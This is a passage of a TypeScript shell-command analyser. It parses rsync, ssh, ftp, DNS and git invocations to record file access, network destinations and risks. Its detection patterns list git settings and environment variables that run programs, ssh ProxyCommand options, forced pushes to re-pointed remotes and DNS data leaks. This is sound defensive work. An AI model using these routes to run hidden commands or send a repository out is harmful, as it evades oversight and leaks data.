  if (destRemote) addUrl(a, inv, `${inv.program === 'rsync' ? 'rsync' : 'ssh'}://${destRemote.host}`, inv.program, localSources.length ? 'file' : undefined);
  else {
    a.path(dest, 'write', `${inv.program} destination`, inv.st, { recursive: true });
    if (inv.program === 'rsync' && p.flags.some((x) => x.startsWith('--delete'))) a.path(dest, 'delete', 'rsync --delete', inv.st, { recursive: true });
  }
  if (inv.program === 'rsync' && has(p, '--remove-source-files')) {
    for (const src of sources) if (!remoteSpec(src.text)) a.path(src, 'delete', 'rsync --remove-source-files', inv.st, { recursive });
  }
});

on(['ssh', 'mosh', 'autossh'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'BbcDEeFIiJLlmOoPpQRSWwM', stopAtOperand: true });
  emit(a, inv, p);
  for (const o of allValues(p, '-o')) if (/^(ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)/i.test(o.text)) a.risk('interpreter-inline-exec', `ssh -o ${o.text}`);
  for (const cfg of allValues(p, '-F')) a.path(cfg, 'read', 'ssh config', inv.st);
  const [dest, ...remote] = p.rest;
  if (!dest) return;
  const host = dest.text.replace(/^ssh:\/\//, '').replace(/^[^@]*@/, '').replace(/[:/].*$/, '');
  addUrl(a, inv, `ssh://${host}`, 'ssh', strongerSends(remote.length ? sendsOf(remote[0]!) : undefined, stdinSends(inv.stdin)));
});

on(['ftp', 'tftp', 'lftp', 'ncftp', 'ftps'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'PpuecfE' });
  emit(a, inv, p);
  for (const o of p.operands) if (!/^\d+$/.test(o.text)) addUrl(a, inv, o.text, inv.program, stdinSends(inv.stdin), 'ftp');
});

on(['ping', 'ping6', 'dig', 'nslookup', 'host', 'traceroute', 'tracepath', 'mtr', 'whois', 'nmap', 'getent'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'cWiIsStpfqbxyk' });
  emit(a, inv, p);
  // A hostname built from command output or variables leaks that data through DNS.
  for (const o of p.operands) if (!/^\d+$/.test(o.text) && !o.text.startsWith('@') && o.text !== 'hosts') addUrl(a, inv, o.text, inv.program, o.from ? sendsOf(o) : undefined, 'dns');
});

// ── version control ─────────────────────────────────────────────────────

const GIT_EXEC_KEYS = /^(core\.(pager|editor|sshcommand|hookspath|fsmonitor|gitproxy|askpass)|sequence\.editor|diff\.external|diff\..+\.(textconv|command)|merge\..+\.driver|filter\..+\.(clean|smudge|process)|credential\.helper|credential\..+\.helper|gpg\.program|gpg\..+\.program|uploadpack\.packobjectshook|interactive\.difffilter|pager\..+|web\.browser|browser\..+\.cmd|man\..+\.cmd|remote\..+\.(uploadpack|receivepack)|core\.alternaterefscommand|protocol\.ext\.allow)$/i;

on('git', (a, inv) => {
  // Aliases defined earlier in this command line (git config alias.x …) apply; -c ones only to this call.
  const aliases = new Map(inv.st.world.gitAliases);
  gitEnvironment(a, inv, aliases);
  gitCommand(a, inv, inv.args, inv.st, aliases, 0);
});

/** Environment variables git reads as configuration or as programs to run. */
const GIT_ENV_PROGRAMS: Record<string, string> = {
  GIT_SSH_COMMAND: 'core.sshcommand',
  GIT_SSH: 'core.sshcommand',
  GIT_PAGER: 'core.pager',
  GIT_EDITOR: 'core.editor',
  GIT_SEQUENCE_EDITOR: 'sequence.editor',
  GIT_EXTERNAL_DIFF: 'diff.external',
  GIT_ASKPASS: 'core.askpass',
  GIT_PROXY_COMMAND: 'core.gitproxy',
};

function gitEnvironment(a: ShellAnalyzer, inv: Invocation, aliases: Map<string, Field>): void {
  const valueOf = (name: string): string | undefined => {
    if (name in inv.env) return inv.env[name];
    if (!inv.st.exported.has(name)) return undefined;
    const v = a.varOf(inv.st, name);
    return v.v.length === 1 && !v.dyn ? v.v[0] : v.v.length || v.dyn ? DYN : undefined;
  };
  for (const [name, key] of Object.entries(GIT_ENV_PROGRAMS)) {
    const v = valueOf(name);
    if (v !== undefined) gitConfigValue(a, inv, f(`${key}=${v}`), aliases, name);
  }
  const count = Number(valueOf('GIT_CONFIG_COUNT'));
  for (let k = 0; k < Math.min(Number.isFinite(count) ? count : 0, 32); k++) {
    const key = valueOf(`GIT_CONFIG_KEY_${k}`);
    const v = valueOf(`GIT_CONFIG_VALUE_${k}`);
    if (key !== undefined) gitConfigValue(a, inv, f(`${key}=${v ?? ''}`), aliases, `GIT_CONFIG_KEY_${k}`);
  }
  const params = valueOf('GIT_CONFIG_PARAMETERS');
  if (params !== undefined) for (const m of params.matchAll(/'([^']*)'/g)) gitConfigValue(a, inv, f(m[1]!), aliases, 'GIT_CONFIG_PARAMETERS');
}

function gitCommand(a: ShellAnalyzer, inv: Invocation, args: Field[], stIn: State, aliases: Map<string, Field>, aliasDepth: number): void {
  let st = stIn;
  let i = 0;
  const globalFlags: string[] = [];
  for (; i < args.length; i++) {
    const t = args[i]!.text;
    if (t === '-C' && args[i + 1]) {
      st = stateIn(a, st, args[++i]!);
      globalFlags.push('-C');
    } else if (t === '-c' && args[i + 1]) {
      gitConfigValue(a, inv, args[++i]!, aliases);
      globalFlags.push('-c');
    } else if (/^--(git-dir|work-tree|namespace|exec-path|config-env|super-prefix|list-cmds|attr-source)(=|$)/.test(t)) {
      globalFlags.push(t.replace(/=.*/, ''));
      const val = t.includes('=') ? f(t.slice(t.indexOf('=') + 1)) : t === '--exec-path' ? undefined : args[++i];
      if (t.startsWith('--exec-path') && val) a.risk('git-config-exec', `git --exec-path=${val.text} replaces git's helper programs`);
      if (t.startsWith('--config-env') && val) gitConfigValue(a, inv, val, aliases);
    } else if (t.startsWith('-')) globalFlags.push(t);
    else break;
  }
  const subArgs = args.slice(i + 1);
  const sub = args[i];
  if (!sub) {
    a.command({ program: 'git', invokedAs: inv.invokedAs, args: args.map((x) => x.text), subcommand: [], flags: globalFlags, operands: [], via: inv.via, env: inv.env, depth: inv.depth });
    return;
  }
  if (sub.dynamic) {
    a.risk('dynamic-program', `git subcommand computed at run time: ${sub.text}`);
    a.command({ program: 'git', invokedAs: inv.invokedAs, args: args.map((x) => x.text), subcommand: [DYN], flags: globalFlags, operands: subArgs.map((x) => x.text), via: inv.via, env: inv.env, depth: inv.depth });
    return;
  }
  const alias = aliases.get(sub.text);
  if (alias && aliasDepth < 4) {
    if (alias.text.startsWith('!')) {
      a.risk('git-config-exec', `git alias ${sub.text} runs a shell command`);
      runText(a, { ...inv, st }, { ...alias, text: [alias.text.slice(1), ...subArgs.map((x) => shellQuote(x.text))].join(' ') }, `git alias ${sub.text}`);
      return;
    }
    const expanded = alias.text.split(/\s+/).filter(Boolean).map(f);
    gitCommand(a, inv, [...expanded, ...subArgs], st, aliases, aliasDepth + 1);
    return;
  }
  const handler = GIT_SUBCOMMANDS[sub.text];
  const ctx: GitCtx = { a, inv, st, sub: sub.text, args: subArgs, globalFlags };
  if (handler) handler(ctx);
  else gitGeneric(ctx, {});
}

/** Settings given for one git call (-c, --config-env, GIT_CONFIG_*, clone -c), for the subcommands they change. */
const GIT_CALL_SETTINGS = new WeakMap<Invocation, Map<string, string>>();

/** A boolean git value in the one spelling rules use. */
const gitBool = (v: string): string => (/^(true|yes|on|false|no|off)$/i.test(v) ? v.toLowerCase() : v);

/**
 * A setting in force for one call, reported as the `git config set <key> <value>` it amounts to (key in
 * lower case, as git reads it), so the rules on configuration writes (hooksPath, include.path, forced push
 * refspecs) also see `git -c`, GIT_CONFIG_* and `--template`.
 */
function gitSetting(a: ShellAnalyzer, inv: Invocation, key: string, val: string, source: string): void {
  let m = GIT_CALL_SETTINGS.get(inv);
  if (!m) GIT_CALL_SETTINGS.set(inv, (m = new Map()));
  m.set(key, val);
  a.command({ program: 'git', invokedAs: inv.invokedAs, args: inv.args.map((x) => x.text), subcommand: ['config', 'set', key, gitBool(val)], flags: [], operands: [key, val], via: [...inv.via, source], env: inv.env, depth: inv.depth });
}

/** A git configuration value that runs a program: the risk, and the program it runs, analysed. */
function gitConfigValue(a: ShellAnalyzer, inv: Invocation, kv: Field, aliases: Map<string, Field>, source = 'git -c'): void {
  const eq = kv.text.indexOf('=');
  const key = (eq < 0 ? kv.text : kv.text.slice(0, eq)).toLowerCase();
  const val = eq < 0 ? '' : kv.text.slice(eq + 1);
  // `-c key` alone means true.
  gitSetting(a, inv, key, eq < 0 ? 'true' : val, source);
  if (key.includes(DYN) && !key.startsWith('alias.')) return a.risk('git-config-exec', `${source} with a key computed at run time: ${kv.text}`);
  if (key.startsWith('alias.')) {
    aliases.set(kv.text.slice(6, eq < 0 ? undefined : eq), { ...kv, text: val });
    // A plain alias is more git arguments (expanded where used); only `!` aliases run a shell.
    if (val.startsWith('!') || kv.dynamic) a.risk('git-config-exec', `${source} ${key}=${val}`);
    return;
  }
  if (!GIT_EXEC_KEYS.test(key)) return;
  a.risk('git-config-exec', `${source} ${key}=${val}`);
  if (val && !/^(true|false|\d+)$/.test(val) && key !== 'core.hookspath') runText(a, inv, { ...kv, text: val.replace(/^!/, '') }, `git config ${key}`);
}

interface GitCtx {
  a: ShellAnalyzer;
  inv: Invocation;
  st: State;
  sub: string;
  args: Field[];
  globalFlags: string[];
}

function gitEmit(c: GitCtx, p: ParsedArgs, subcommand: string[], extraFlags: string[] = []): void {
  c.a.command({
    program: 'git',
    invokedAs: c.inv.invokedAs,
    args: c.inv.args.map((x) => x.text),
    subcommand,
    flags: [...new Set([...c.globalFlags, ...p.flags, ...extraFlags])],
    operands: p.operands.map((x) => x.text),
    via: c.inv.via,
    env: c.inv.env,
    depth: c.inv.depth,
  });
}

function gitGeneric(c: GitCtx, spec: OptSpec, pathAccess?: 'read' | 'write' | 'delete'): ParsedArgs {
  const p = parseArgs(c.args, spec);
  gitEmit(c, p, [c.sub]);
  if (pathAccess) for (const o of p.afterDashDash.length ? p.afterDashDash : p.operands) c.a.path(o, pathAccess, `git ${c.sub} path`, c.st);
  else for (const o of p.afterDashDash) c.a.path(o, 'read', `git ${c.sub} path`, c.st);
  return p;
}

function looksLikeRevision(t: string): boolean {
  return /^(HEAD|FETCH_HEAD|ORIG_HEAD|MERGE_HEAD|@)([~^]\d*)*$/.test(t) || /^[0-9a-f]{7,40}([~^]\d*)*$/.test(t) || t.includes('..') || /^(origin|upstream)\//.test(t) || t.includes(':');
}

function repoRoot(c: GitCtx): string {
  return c.a.env.vars.CLAUDE_PROJECT_DIR ?? c.a.cwdList(c.st)[0]!;
}

/** `REV:path` object names read a file's content from history. */
function revPaths(c: GitCtx, fields: Field[]): void {
  for (const x of fields) {
    const m = /^[^:]*:(.+)$/.exec(x.text);
    if (!m || /^[a-z]+:\/\//.test(x.text)) continue;
    const rel = m[1]!;
    const base = rel.startsWith('./') || rel.startsWith('../') ? c.a.cwdList(c.st)[0]! : repoRoot(c);
    c.a.path({ ...x, text: resolveLexical(base, rel) }, 'read', `git ${c.sub} REV:path`, c.st);
  }
}

/** A push refspec or mirror setting given for this call (`-c remote.origin.push=+…`) forces like one on the command line. */
function pushSettings(c: GitCtx, remote: Field | undefined): { force: boolean; mirror: boolean } {
  const cfg = GIT_CALL_SETTINGS.get(c.inv);
  const name = (remote?.text ?? 'origin').toLowerCase();
  const mirror = /^(true|yes|on|1)$/i.test(cfg?.get(`remote.${name}.mirror`) ?? '');
  return { mirror, force: mirror || (cfg?.get(`remote.${name}.push`) ?? '').startsWith('+') };
}

/** Where `git config url.<base>.pushInsteadOf …` earlier in the command line sends every later push. */
const GIT_REWRITE_REMOTE = '\0url-rewrite';

const GIT_PUSH_SPEC: OptSpec = {
  short: 'o',
  long: ['repo', 'receive-pack', 'exec', 'push-option', 'signed', 'force-with-lease', 'recurse-submodules'],
  groups: [['-f', '--force'], ['-d', '--delete'], ['-n', '--dry-run'], ['-u', '--set-upstream']],
  flags: ['--force-with-lease', '--force-if-includes', '--mirror', '--all', '--tags', '--prune', '--atomic', '--no-verify', '--follow-tags', '--thin', '--porcelain'],
};

const GIT_SUBCOMMANDS: Record<string, (c: GitCtx) => void> = {
  push: (c) => {
    const p = parseArgs(c.args, GIT_PUSH_SPEC);
    const extra: string[] = [];
    const [remote, ...refspecs] = p.operands;
    const cfg = pushSettings(c, remote);
    if (cfg.force || has(p, '-f', '--force', '--force-with-lease', '--force-if-includes', '--mirror') || p.values.has('--force-with-lease') || refspecs.some((r) => r.text.startsWith('+'))) extra.push('--force', '-f');
    if (cfg.mirror || has(p, '-d', '--delete', '--prune', '--mirror') || refspecs.some((r) => r.text.startsWith(':') && r.text.length > 1)) extra.push('--delete', '-d');
    gitEmit(c, p, ['push'], extra);
    for (const e of allValues(p, '--receive-pack', '--exec')) c.a.risk('git-config-exec', `git push --receive-pack=${e.text}`);
    // Pushing to a URL (also as --repo=URL), to a remote added or re-pointed by this very command line, or
    // to a remote this call's settings re-point (-c remote.X.url / pushurl, url.URL.pushInsteadOf), sends
    // the repository somewhere new.
    const repo = remote ?? value(p, '--repo');
    const targets: string[] = [];
    const added = repo ? c.st.world.gitRemotes.get(repo.text) : undefined;
    if (added) targets.push(added);
    const rewritten = c.st.world.gitRemotes.get(GIT_REWRITE_REMOTE);
    if (rewritten) targets.push(rewritten);
    else if (repo && (looksLikeUrl(repo.text) || remoteSpec(repo.text))) targets.push(repo.text);
    for (const [k, v] of GIT_CALL_SETTINGS.get(c.inv) ?? []) {
      const rewrite = /^url\.(.+)\.(pushinsteadof|insteadof)$/.exec(k);
      if (rewrite) targets.push(rewrite[1]!);
      else if (/^remote\..+\.(url|pushurl)$/.test(k) || ((k === 'remote.pushdefault' || /^branch\..+\.(pushremote|remote)$/.test(k)) && (looksLikeUrl(v) || remoteSpec(v)))) targets.push(v);
    }
    for (const t of targets) addUrl(c.a, c.inv, looksLikeUrl(t) ? t : `ssh://${remoteSpec(t)?.host ?? t}`, 'git push', 'file');
  },
  // The plumbing under push: the same spellings of force and delete.
  'send-pack': (c) => {
    const p = parseArgs(c.args, { long: ['receive-pack', 'exec', 'push-option', 'signed', 'force-with-lease'], groups: [['-f', '--force'], ['-n', '--dry-run']], flags: ['--all', '--mirror', '--atomic', '--thin', '--stateless-rpc', '--stateless', '--helper-status', '--verbose', '--quiet'] });
    const [dest, ...refspecs] = p.operands;
    const extra: string[] = [];
    if (has(p, '-f', '--force', '--mirror', '--force-with-lease') || p.values.has('--force-with-lease') || refspecs.some((r) => r.text.startsWith('+'))) extra.push('--force', '-f');
    if (has(p, '--mirror') || refspecs.some((r) => r.text.startsWith(':') && r.text.length > 1)) extra.push('--delete', '-d');
    gitEmit(c, p, ['send-pack'], extra);
    for (const e of allValues(p, '--receive-pack', '--exec')) c.a.risk('git-config-exec', `git send-pack --receive-pack=${e.text}`);
    if (dest && looksLikeUrl(dest.text)) addUrl(c.a, c.inv, dest.text, 'git send-pack', 'file');
    else if (dest && remoteSpec(dest.text)) addUrl(c.a, c.inv, `ssh://${remoteSpec(dest.text)!.host}`, 'git send-pack', 'file');
  },
  reset: (c) => {
    gitGeneric(c, { groups: [['-q', '--quiet']], flags: ['--hard', '--soft', '--mixed', '--merge', '--keep'] });
  },
  clean: (c) => {
    const p = parseArgs(c.args, { short: 'eE', long: ['exclude'], groups: [['-f', '--force'], ['-n', '--dry-run'], ['-d'], ['-x'], ['-X'], ['-i', '--interactive'], ['-q', '--quiet']] });
    // With clean.requireForce off (`-c clean.requireForce=false`), git clean deletes without -f.
    const forced = has(p, '-f', '--force') || /^(false|no|off|0)$/i.test(GIT_CALL_SETTINGS.get(c.inv)?.get('clean.requireforce') ?? '');
    gitEmit(c, p, ['clean'], forced ? ['-f', '--force'] : []);
    if (forced && !has(p, '-n', '--dry-run')) {
      for (const o of p.operands.length ? p.operands : [f('.')]) c.a.path(o, 'delete', 'git clean', c.st, { recursive: has(p, '-d') });
    }
  },
  checkout: (c) => {
    const p = parseArgs(c.args, { short: 'bBt', long: ['orphan', 'track', 'conflict', 'pathspec-from-file'], groups: [['-f', '--force'], ['-p', '--patch']] });
    gitEmit(c, p, ['checkout']);
    for (const o of p.afterDashDash) c.a.path(o, 'write', 'git checkout -- path', c.st);
    if (!p.afterDashDash.length && p.operands.some((o) => o.text === '.')) c.a.path(f('.'), 'write', 'git checkout .', c.st, { recursive: true });
  },
  // Switching with --discard-changes / -f throws away uncommitted changes like checkout -f.
  switch: (c) => void gitGeneric(c, { short: 'cC', long: ['orphan', 'track', 'conflict'], groups: [['-f', '--force', '--discard-changes'], ['-m', '--merge'], ['-d', '--detach']] }),
  'read-tree': (c) => void gitGeneric(c, { long: ['prefix', 'exclude-per-directory', 'index-output'], groups: [['-u'], ['--reset'], ['-m'], ['-n', '--dry-run']] }),
  'checkout-index': (c) => void gitGeneric(c, { long: ['prefix', 'stage'], groups: [['-f', '--force'], ['-a', '--all'], ['-u', '--index'], ['-n', '--no-create']] }),
  restore: (c) => {
    const p = parseArgs(c.args, { short: 's', long: ['source', 'pathspec-from-file', 'conflict'], groups: [['-S', '--staged'], ['-W', '--worktree']] });
    gitEmit(c, p, ['restore']);
    if (!has(p, '-S', '--staged') || has(p, '-W', '--worktree')) for (const o of p.operands) c.a.path(o, 'write', 'git restore', c.st, { recursive: o.text === '.' });
  },
  rm: (c) => {
    const p = parseArgs(c.args, { long: ['pathspec-from-file'], groups: [['-r'], ['-f', '--force'], ['--cached']] });
    gitEmit(c, p, ['rm']);
    if (!has(p, '--cached')) for (const o of p.operands) c.a.path(o, 'delete', 'git rm', c.st, { recursive: has(p, '-r') });
  },
  mv: (c) => {
    const p = parseArgs(c.args, { groups: [['-f', '--force'], ['-k'], ['-n', '--dry-run']] });
    gitEmit(c, p, ['mv']);
    const ops = p.operands;
    ops.slice(0, -1).forEach((o) => {
      c.a.path(o, 'read', 'git mv source', c.st, { recursive: true });
      c.a.path(o, 'delete', 'git mv source', c.st, { recursive: true });
    });
    if (ops.length > 1) c.a.path(ops[ops.length - 1]!, 'write', 'git mv destination', c.st, { recursive: true });
  },
  add: (c) => void gitGeneric(c, { long: ['chmod', 'pathspec-from-file'] }, 'read'),
  stage: (c) => void gitGeneric(c, { long: ['pathspec-from-file'] }, 'read'),
  show: (c) => {
    const p = gitGeneric(c, { long: ['format', 'pretty', 'output', 'stat'] });
    revPaths(c, p.operands);
    for (const o of allValues(p, '--output')) c.a.path(o, 'write', 'git show --output', c.st);
  },
  // hash-object FILE… reads the files (and -w stores them, so cat-file can print them later).
  'hash-object': (c) => void gitGeneric(c, { short: 't', long: ['path', 'type'] }, 'read'),
  'cat-file': (c) => {
    const p = gitGeneric(c, { long: ['batch', 'filters', 'path'] });
    revPaths(c, p.operands);
  },
  log: (c) => {
    const p = gitGeneric(c, { short: 'nLG', long: ['format', 'pretty', 'since', 'until', 'author', 'grep', 'output', 'max-count', 'date', 'decorate'] });
    revPaths(c, p.operands);
    // Without `--`, an operand that is not a revision is a pathspec (`git log -p .env`).
    if (!p.afterDashDash.length) for (const o of p.operands) if (!looksLikeRevision(o.text)) c.a.path(o, 'read', 'git log path', c.st);
  },
  diff: (c) => {
    const p = gitGeneric(c, { long: ['output', 'diff-filter', 'relative', 'stat', 'word-diff-regex'] });
    revPaths(c, p.operands);
    if (has(p, '--no-index')) for (const o of p.operands) c.a.path(o, 'read', 'git diff --no-index', c.st);
    for (const o of allValues(p, '--output')) c.a.path(o, 'write', 'git diff --output', c.st);
    if (has(p, '--ext-diff')) c.a.risk('git-config-exec', 'git diff --ext-diff runs the configured external diff program');
  },
  blame: (c) => void gitGeneric(c, { short: 'LSC', long: ['contents', 'ignore-rev', 'ignore-revs-file'] }, 'read'),
  annotate: (c) => void gitGeneric(c, {}, 'read'),
  grep: (c) => {
    const p = parseArgs(c.args, { short: 'efABCm', long: ['max-depth', 'threads', 'open-files-in-pager'] });
    gitEmit(c, p, ['grep']);
    const rest = p.afterDashDash.length ? p.afterDashDash : [];
    for (const o of rest) c.a.path(o, 'read', 'git grep path', c.st, { recursive: true });
    // After the pattern come revisions and paths; with --no-index (or outside a repository with
    // grep.fallbackToNoIndex) the paths are any directory on disk, searched recursively.
    const patternGiven = p.values.has('-e') || p.values.has('-f');
    for (const file of allValues(p, '-f')) c.a.path(file, 'read', 'git grep -f', c.st);
    const after = p.operands.filter((o) => !rest.includes(o)).slice(patternGiven ? 0 : 1);
    for (const o of after) if (has(p, '--no-index', '--untracked') || !looksLikeRevision(o.text)) c.a.path(o, 'read', 'git grep path', c.st, { recursive: true });
    revPaths(c, p.operands);
    if (p.values.has('-O') || has(p, '--open-files-in-pager')) c.a.risk('git-config-exec', 'git grep -O opens results in a program');
  },
  archive: (c) => {
    const p = gitGeneric(c, { short: 'o', long: ['output', 'format', 'prefix', 'remote', 'exec'] });
    for (const o of allValues(p, '-o', '--output')) c.a.path(o, 'write', 'git archive --output', c.st);
    for (const e of allValues(p, '--exec')) c.a.risk('git-config-exec', `git archive --exec=${e.text}`);
    revPaths(c, p.operands);
  },
  config: (c) => {
    const p = parseArgs(c.args, { short: 'f', long: ['file', 'blob', 'type', 'default', 'comment'], flags: ['--global', '--system', '--local', '--worktree', '--get', '--get-all', '--get-regexp', '--list', '--unset', '--unset-all', '--add', '--replace-all', '--show-origin'] });
    const ops = p.operands;
    let action = ops[0]?.text ?? '';
    let kv = ops;
    if (['get', 'set', 'unset', 'list', 'edit', 'rename-section', 'remove-section'].includes(action)) kv = ops.slice(1);
    else action = '';
    const reading = has(p, '--get', '--get-all', '--get-regexp', '--list', '-l', '--show-origin') || action === 'get' || action === 'list' || (!action && kv.length === 1);
    // Reported in git's modern spelling whatever the syntax (`config get <key>`, `config set <key> <value>`,
    // `config unset <key>`, `config list`), the key in lower case as git reads it, so rules can name keys.
    const verb =
      action ||
      (has(p, '--unset', '--unset-all') ? 'unset' : has(p, '--rename-section') ? 'rename-section' : has(p, '--remove-section') ? 'remove-section' : has(p, '-e', '--edit') ? 'edit' : reading ? (has(p, '--list', '-l') || !kv.length ? 'list' : 'get') : 'set');
    const words = kv.slice(0, verb === 'set' ? 2 : 1).map((x, k) => (k === 0 ? x.text.toLowerCase() : gitBool(x.text)));
    gitEmit(c, p, ['config', verb, ...words]);
    if (reading) {
      if (kv[0] && /credential|token|password/i.test(kv[0].text)) c.a.risk('env-dump', `git config reads ${kv[0].text}`);
      return;
    }
    const file = value(p, '-f', '--file');
    const key = kv[0]?.text.toLowerCase() ?? '';
    const val = kv[1];
    if (key.includes(DYN)) c.a.risk('git-config-exec', `git config of a key computed at run time: ${kv[0]!.text}`);
    const target = file ? file.text : has(p, '--global') ? `${c.a.env.home}/.gitconfig` : has(p, '--system') ? '/etc/gitconfig' : `${repoRoot(c)}/.git/config`;
    c.a.path(f(target), 'write', 'git config', c.st);
    // A remote re-pointed (or a URL rewrite set) here is where a later `git push` in this command line goes.
    const remoteUrl = /^remote\.(.+)\.(url|pushurl)$/.exec(key);
    const rewrite = /^url\.(.+)\.(pushinsteadof|insteadof)$/.exec(key);
    if (remoteUrl && val && !val.dynamic && verb === 'set') c.st.world.gitRemotes.set(kv[0]!.text.slice(7, 7 + remoteUrl[1]!.length), val.text);
    if (rewrite && val && verb === 'set') c.st.world.gitRemotes.set(GIT_REWRITE_REMOTE, kv[0]!.text.slice(4, 4 + rewrite[1]!.length));
    if (key.startsWith('alias.') && val && !has(p, '--unset', '--unset-all')) {
      c.st.world.gitAliases.set(kv[0]!.text.slice(6), val);
      if (val.text.startsWith('!') || val.dynamic) {
        c.a.risk('git-config-exec', `git config ${key} ${val.text}`);
        runText(c.a, { ...c.inv, st: c.st }, { ...val, text: val.text.replace(/^!/, '') }, `git config ${key}`);
      }
    } else if (GIT_EXEC_KEYS.test(key)) {
      c.a.risk('git-config-exec', `git config ${key}${val ? ` ${val.text}` : ''}`);
      if (val && key !== 'core.hookspath' && !/^(true|false|\d+)$/.test(val.text)) runText(c.a, { ...c.inv, st: c.st }, { ...val, text: val.text.replace(/^!/, '') }, `git config ${key}`);
    }
  },
  clone: (c) => {
    const p = parseArgs(c.args, { short: 'obcju', long: ['origin', 'branch', 'config', 'depth', 'template', 'upload-pack', 'reference', 'separate-git-dir', 'jobs', 'filter'] });
    gitEmit(c, p, ['clone']);
    for (const cfg of allValues(p, '-c', '--config')) gitConfigValue(c.a, c.inv, cfg, new Map());
    for (const t of allValues(p, '--template')) if (t.text) gitSetting(c.a, c.inv, 'init.templatedir', t.text, 'git clone --template');
    for (const u of allValues(p, '-u', '--upload-pack')) c.a.risk('git-config-exec', `git clone --upload-pack=${u.text}`);
    const [src, dest] = p.operands;
    if (src) {
      const r = remoteSpec(src.text);
      if (looksLikeUrl(src.text)) addUrl(c.a, c.inv, src.text, 'git clone');
      else if (r) addUrl(c.a, c.inv, `ssh://${r.host}`, 'git clone');
      else c.a.path(src, 'read', 'git clone source', c.st, { recursive: true });
      if (/^ext::/.test(src.text)) c.a.risk('git-config-exec', `git clone ${src.text} runs a command as transport`);
    }
    const name = dest?.text ?? basename(src?.text ?? DYN).replace(/\.git$/, '');
    c.a.path(f(name), 'write', 'git clone destination', c.st, { recursive: true });
  },
  fetch: (c) => gitRemoteOp(c),
  pull: (c) => gitRemoteOp(c),
  'ls-remote': (c) => gitRemoteOp(c),
  remote: (c) => {
    // `set-url --push|--add|--delete` and `add --mirror[=push]` are flags: the name and URL follow them.
    const p = parseArgs(c.args, { short: 'tm', long: ['track', 'master'], flags: ['--push', '--add', '--delete', '--mirror', '--tags', '--no-tags', '--fetch'] });
    const [action, ...rest] = p.operands;
    gitEmit(c, p, action ? ['remote', action.text] : ['remote']);
    if (action && ['add', 'set-url'].includes(action.text)) {
      // `set-url <name> <newurl> [<oldurl>]`, `add <name> <url>`.
      const url = rest.length > 1 ? rest[1] : rest[0];
      const name = rest.length > 1 ? rest[0] : undefined;
      if (url) {
        c.a.path(f(`${repoRoot(c)}/.git/config`), 'write', `git remote ${action.text}`, c.st);
        if (name && !name.dynamic && !url.dynamic) c.st.world.gitRemotes.set(name.text, url.text);
        const r = remoteSpec(url.text);
        if (looksLikeUrl(url.text)) addUrl(c.a, c.inv, url.text, `git remote ${action.text}`);
        else if (r) addUrl(c.a, c.inv, `ssh://${r.host}`, `git remote ${action.text}`);
      }
    }
  },
  stash: (c) => {
    const p = parseArgs(c.args, { short: 'm', long: ['message', 'pathspec-from-file'] });
    const action = p.operands[0]?.text;
    gitEmit(c, p, action && !action.startsWith('-') ? ['stash', action] : ['stash']);
  },
  branch: (c) => {
    const p = parseArgs(c.args, { short: 'utm', long: ['set-upstream-to', 'contains', 'merged', 'format', 'sort', 'points-at'], groups: [['-d', '--delete'], ['-D'], ['-f', '--force'], ['-m', '--move'], ['-M'], ['-r', '--remotes']] });
    gitEmit(c, p, ['branch'], has(p, '-D') ? ['--delete', '--force'] : []);
  },
  tag: (c) => void gitGeneric(c, { short: 'mFu', groups: [['-d', '--delete'], ['-f', '--force']] }),
  'update-ref': (c) => void gitGeneric(c, { short: 'm', groups: [['-d']] }),
  reflog: (c) => {
    const p = parseArgs(c.args, { long: ['expire', 'expire-unreachable'] });
    gitEmit(c, p, p.operands[0] ? ['reflog', p.operands[0].text] : ['reflog']);
  },
  gc: (c) => void gitGeneric(c, { long: ['prune'] }),
  'filter-branch': (c) => {
    const p = gitGeneric(c, { long: ['env-filter', 'tree-filter', 'index-filter', 'parent-filter', 'msg-filter', 'commit-filter', 'tag-name-filter', 'subdirectory-filter', 'original', 'state-branch'] });
    for (const opt of ['--env-filter', '--tree-filter', '--index-filter', '--parent-filter', '--msg-filter', '--commit-filter']) for (const v of allValues(p, opt)) runText(c.a, { ...c.inv, st: c.st }, v, `git filter-branch ${opt}`);
  },
  rebase: (c) => {
    const p = gitGeneric(c, { short: 'xsX', long: ['exec', 'onto', 'strategy', 'strategy-option'], groups: [['-i', '--interactive']] });
    for (const e of allValues(p, '-x', '--exec')) runText(c.a, { ...c.inv, st: c.st }, e, 'git rebase --exec');
  },
  bisect: (c) => {
    const p = parseArgs(c.args, { stopAtOperand: true });
    const [action, ...rest] = p.rest;
    gitEmit(c, p, action ? ['bisect', action.text] : ['bisect']);
    if (action?.text === 'run') c.a.exec(rest, c.st, { env: c.inv.env, stdin: { kind: 'none' }, via: [...c.inv.via, 'git bisect run'], depth: c.inv.depth + 1 });
  },
  submodule: (c) => {
    const p = parseArgs(c.args, { stopAtOperand: true });
    const action = p.rest[0];
    gitEmit(c, p, action ? ['submodule', action.text] : ['submodule']);
    if (action?.text === 'foreach') {
      const cmd = p.rest.slice(1).filter((x) => x.text !== '--recursive' && x.text !== '-q' && x.text !== '--quiet');
      if (cmd.length) runText(c.a, { ...c.inv, st: c.st }, { text: cmd.map((x) => x.text).join(' '), dynamic: cmd.some((x) => x.dynamic) }, 'git submodule foreach');
    }
  },
  commit: (c) => {
    const p = gitGeneric(c, { short: 'mFCcut', long: ['message', 'file', 'reuse-message', 'reedit-message', 'author', 'date', 'template', 'fixup', 'squash', 'cleanup', 'trailer', 'pathspec-from-file'], groups: [['-a', '--all'], ['-n', '--no-verify']] });
    for (const file of allValues(p, '-F', '--file', '-t', '--template')) if (file.text !== '-') c.a.path(file, 'read', 'git commit message file', c.st);
  },
  apply: (c) => void gitGeneric(c, { short: 'pC', long: ['directory', 'exclude', 'include'] }, 'read'),
  am: (c) => void gitGeneric(c, { short: 'pC', long: ['directory', 'exclude', 'include'] }, 'read'),
  'format-patch': (c) => {
    const p = gitGeneric(c, { short: 'o', long: ['output-directory', 'subject-prefix'] });
    for (const o of allValues(p, '-o', '--output-directory')) c.a.path(o, 'write', 'git format-patch -o', c.st, { recursive: true });
  },
  'send-email': (c) => {
    const p = gitGeneric(c, { long: ['to', 'cc', 'bcc', 'from', 'smtp-server', 'sendmail-cmd'] });
    for (const o of p.operands) c.a.path(o, 'read', 'git send-email patch', c.st);
